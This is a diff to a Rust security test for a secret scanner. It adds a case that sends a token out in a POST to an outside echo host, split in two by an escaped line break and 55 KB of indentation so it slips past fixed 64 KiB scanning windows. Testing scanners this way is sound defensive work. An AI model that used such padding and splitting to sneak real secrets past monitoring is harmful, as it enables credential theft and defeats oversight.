@@ -49,6 +49,13 @@ fn attack_12_secrets_hidden_from_the_scanner() {
         .collect();
     let utf16_b64 = base64::engine::general_purpose::STANDARD.encode(&utf16);
     let utf16_json: String = token.chars().map(|c| format!("{c}\\u0000")).collect();
+    // Wider than any fixed window a large body's 64 KiB pieces are
+    // scanned with: the token's halves apart by an escaped line break and
+    // 55 KB of indentation, which the views drop, across the first cut.
+    let json: String =
+        r#"{"path":"src/lib.rs","text":"fn main() {}"},"#.chars().cycle().take(30_000).collect();
+    let (head, tail) = token.split_at(10);
+    let indented = format!("{json} {head}\\n{}{tail} {json}", " ".repeat(55_000));
     a.control(
         status(&f.fetch(&format!(
             "-X POST --data hello -H 'X-Note: hello' https://{WILD}/echo"
@@ -117,6 +124,10 @@ fn attack_12_secrets_hidden_from_the_scanner() {
         (
             "UTF-16 as JSON \\u0000 escapes",
             format!("-X POST --data '{{\"k\":\"{utf16_json}\"}}' https://{WILD}/echo"),
+        ),
+        (
+            "a 115 KB body, split by a line break and 55 KB of indentation",
+            format!("-X POST --data '{indented}' https://{WILD}/echo"),
         ),
         (
             "hex behind a glued digit",
